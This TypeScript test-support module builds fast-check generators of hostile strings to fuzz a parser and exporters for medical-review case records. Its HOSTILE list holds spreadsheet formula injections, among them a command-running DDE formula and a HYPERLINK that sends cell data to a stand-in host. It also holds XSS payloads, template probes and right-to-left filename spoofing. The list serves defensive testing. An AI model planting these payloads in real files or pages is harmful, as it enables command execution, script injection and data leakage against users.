import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { type Case, type CaseCitation, type CaseIssue, toCase } from '../../../server/src/case/index.ts';
import { FORMAT_IDS } from '../../../server/src/letter/model.ts';
import { parse } from '../../../server/src/letter/parse.ts';

const SAMPLES = new URL('../../../samples/', import.meta.url);

/** The records of the project's samples, in the order of the files' names. */
export const sampleRecords: readonly Case[] = readdirSync(SAMPLES)
  .filter((name) => name.endsWith('.imr.txt'))
  .sort()
  .flatMap((name) =>
    parse(readFileSync(new URL(name, SAMPLES), 'utf8')).map((placed) => toCase(placed, `file:///samples/${name}`)),
  );

/** What a reader of some format might run, take for its own, or stumble over. */
const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  "'=1",
  "'quoted'",
  '"',
  '""',
  'a,b;c\td',
  'line\nline\r\nline\rline\u2028line',
  ' blanks at both ends ',
  '<script>alert(1)</script>',
  '</article></body><img src=x onerror=alert(1)>',
  '<!-- <![CDATA[ ]]> --> &amp; &#x3c;',
  '" onmouseover="alert(1)',
  '[link](javascript:alert(1)) ![image](http://example.invalid/x.png)',
  '# heading\n\n- list\n\n> quote\n\n```\ncode\n```\n\n---\n\n| a | b |\n|---|---|',
  '    code\n1. one\n2) two\n===\n***strong*** __x__ ~~y~~ `z` <http://example.invalid>',
  '${7*7} {{7*7}} %s %d \\u0000 \\n \\',
  'nul \0 bell \u0007 escape \u001b[31m',
  'right to left \u202eexe.txt\u202c and marks \u200f\u061c\u2066\u2069',
  'half of a pair \ud800 and \udc00',
  'byte order mark \ufeff',
  'é ü 漢字 😀 \u0301',
  '{"resourceType":"Bundle"}',
  '__proto__',
  'NULL',
  'true',
  '1e5',
  '2015-01-01',
];

const text = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((parts) => parts.join(' ')),
  fc.constantFrom(...HOSTILE).map((part) => part.repeat(400)),
);

const maybe = <T>(value: fc.Arbitrary<T>): fc.Arbitrary<T | null> => fc.option(value, { freq: 5 });
const texts = fc.array(text, { maxLength: 3 });
const date = maybe(
  fc
    .date({ min: new Date('1900-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
    .map((day) => day.toISOString().slice(0, 10)),
);
const natural = fc.nat(100_000).map((number) => number + 1);

const citation: fc.Arbitrary<CaseCitation> = fc.record({
  text,
  scheme: fc.constantFrom('MTUS', 'ODG', 'ACOEM', 'other'),
  guideline: maybe(text),
  year: maybe(natural),
  sections: texts,
  pages: fc.array(fc.record({ first: natural, last: natural }), { maxLength: 3 }),
  entry: maybe(text),
});

const basis = maybe(fc.record({ text, cited: fc.boolean(), citations: fc.array(citation, { maxLength: 3 }) }));

const issue = (number: number): fc.Arbitrary<CaseIssue> =>
  fc.record({
    number: fc.constant(number),
    item: maybe(text),
    decision: maybe(fc.constantFrom('upheld', 'overturned', 'modified')),
    decisionText: maybe(text),
    claimsAdministrator: basis,
    expertReviewer: basis,
    rationale: maybe(text),
  });

/** Records that no letter gives: every text may be hostile to some reader. */
export const hostileRecord: fc.Arbitrary<Case> = fc.record({
  schemaVersion: fc.constant(1 as const),
  format: fc.constantFrom(...FORMAT_IDS),
  caseNumber: maybe(text),
  priority: maybe(fc.constantFrom('standard', 'expedited')),
  dates: fc.record({
    injury: date,
    utilizationReview: date,
    applicationReceived: date,
    assigned: date,
    decision: date,
  }),
  determination: maybe(fc.constantFrom('upheld', 'overturned', 'partially-overturned')),
  reviewer: fc.record({ licensedStates: texts, specialties: texts, subspecialties: texts }),
  patient: fc.record({ age: maybe(fc.nat(120)), sex: maybe(fc.constantFrom('female', 'male')), injuryDate: date }),
  summary: maybe(text),
  documentsReviewed: texts,
  issues: fc
    .nat(3)
    .chain((count) => fc.tuple(...Array.from({ length: count }, (_, i) => issue(i + 1))))
    .map((issues) => [...issues]),
  source: fc.record({ uri: maybe(text), letter: natural, firstLine: natural, lastLine: natural }),
  spans: fc.constant({}),
  corrections: fc.array(
    fc.record({
      pointer: fc.constant(null),
      span: fc.constant([0, 1] as const),
      printed: text,
      reading: text,
      code: text,
    }),
    { maxLength: 2 },
  ),
});

/** A text as it comes back from a file: half of a surrogate pair has no place in UTF-8. */
export const inUtf8 = (value: string): string => Buffer.from(value).toString();
